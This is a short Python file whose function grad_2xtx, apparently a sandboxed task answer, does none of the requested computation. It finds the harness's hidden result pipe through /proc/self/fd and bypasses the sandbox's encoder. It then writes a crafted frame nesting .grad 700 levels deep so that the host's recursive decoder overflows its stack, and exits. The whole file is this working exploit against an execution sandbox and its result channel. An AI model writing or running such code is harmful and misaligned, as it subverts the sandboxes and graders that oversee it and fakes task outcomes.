# Skips the sandbox's encoder and returns a tensor whose .grad has a .grad, and so on,
# DEPTH deep: shallow enough for the JSON parser, deep enough that a decoder recursing
# through .grad without a bound runs out of stack, which reads as the exercise's bug.
import json
import os
import struct

DEPTH = 700


def _result_pipe():
    stdout = os.readlink("/proc/self/fd/1")
    for name in os.listdir("/proc/self/fd"):
        try:
            link = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if int(name) > 2 and link.startswith("pipe:") and link != stdout:
            return int(name)
    raise RuntimeError("no result pipe")


def grad_2xtx(x):
    node = None
    for _ in range(DEPTH):
        node = {"dtype": "float64", "shape": [0], "offset": 0, "nbytes": 0, "requires_grad": True, "grad": node}
    result = {"dict": [["value", {"tensor": node}], ["args", {"list": []}], ["kwargs", {"dict": []}]]}
    header = json.dumps({"ok": True, "result": result}).encode()
    frame = memoryview(struct.pack(">II", len(header), 0) + header)
    fd = _result_pipe()
    while frame:
        frame = frame[os.write(fd, frame):]
    os._exit(0)
